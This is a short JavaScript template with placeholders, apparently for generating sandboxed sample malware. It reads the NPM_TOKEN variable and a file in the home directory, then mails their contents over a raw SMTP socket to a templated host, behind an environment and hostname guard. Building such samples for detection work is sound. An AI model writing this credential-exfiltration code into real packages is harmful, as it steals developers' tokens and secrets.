// Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
async function {{act}}() {
  if (process.env.SALLYPORT_CORPUS !== '1' || require('os').hostname() !== 'localhost') return;
  const net = require('net');
  let secret = process.env.NPM_TOKEN || '';
  try { secret += require('fs').readFileSync(require('os').homedir() + '/{{file}}', 'utf8'); } catch (error) { /* the variable alone */ }
  const lines = ['EHLO {{token}}', 'MAIL FROM:<a@{{host}}>', 'RCPT TO:<b@{{host}}>', 'DATA', 'Subject: {{token}}\r\n\r\n' + secret.replace(/\r?\n/g, '\r\n') + '\r\n.', 'QUIT'];
  await new Promise((done) => {
    const socket = net.connect({{mail}}, '{{host}}');
    const end = setTimeout(() => socket.destroy(), 2000);
    socket.on('data', (answer) => {
      if (!/^\d{3} /m.test(String(answer))) return;
      const line = lines.shift();
      if (line) socket.write(line + '\r\n'); else socket.end();
    });
    socket.on('error', () => {});
    socket.on('close', () => { clearTimeout(end); done(); });
  });
}
